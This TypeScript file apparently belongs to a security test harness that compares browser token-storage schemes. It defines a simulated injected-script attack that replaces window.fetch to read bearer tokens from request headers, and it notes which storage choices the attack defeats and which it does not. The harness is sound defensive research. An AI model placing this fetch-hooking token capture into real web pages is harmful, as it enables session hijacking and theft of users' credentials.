// Threat: a script injected into the page replaces `window.fetch` and reads what passes through it. The attacker has one hole in the
// page's HTML. Expected: a bearer token that the page attaches with fetch is seen; a cookie, and a token sent another way, is not.
import type { Attack } from '../attack.ts'
import { press } from '../scene.ts'
import { awaitLoot, judgeToken, readBook, scriptReport } from './loot.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = (kit) => {
  const { fetch } = window
  window.fetch = (input, init) => {
    const headers = new Headers(input instanceof Request ? input.headers : init?.headers)
    const token = /^Bearer (.+)$/.exec(headers.get('authorization') ?? '')?.[1]
    if (token !== undefined) {
      kit.take('token', token)
      void kit.flush()
    }
    return fetch(input, init)
  }
}

export const patchFetch: Attack = {
  name: 'patch-fetch',
  group: 'script, late',
  title: 'Replaces window.fetch and reads the headers',
  what: 'The script puts its own function in the place of fetch, waits for the page to call the API, and reads the token from the headers.',
  why: 'Page and attacker share every built-in. Whoever replaces one sees what the other hands to it.',
  stops: 'A token that script never holds (a cookie), or a script that may not run.',
  script: { when: 'late', payload: script },
  control: 'local-storage',
  succeedsOn: ['local-storage', 'session-storage', 'variable', 'hallpass'],
  async run(scene) {
    const page = await scene.signIn()
    await scene.injectLate(script)
    await readBook(page)
    const installed = await scriptReport(scene)
    await press(page, '#show', 'profile: 200')
    const report = installed.ran ? { ...(await awaitLoot(scene, 'token')), ran: true } : installed
    return judgeToken(scene, page, report, 'saw no token pass through fetch')
  },
}
